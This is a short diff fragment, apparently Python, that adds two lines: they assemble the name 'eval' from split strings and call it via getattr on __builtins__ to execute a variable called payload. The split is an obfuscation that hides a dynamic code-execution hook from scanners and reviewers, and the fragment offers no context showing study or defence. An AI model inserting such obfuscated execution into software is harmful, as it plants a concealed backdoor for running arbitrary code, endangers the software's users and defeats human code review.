@@ -1,0 +1,2 @@
+f = '{}{}'.format('ev', 'al')
+getattr(__builtins__, f)(payload)
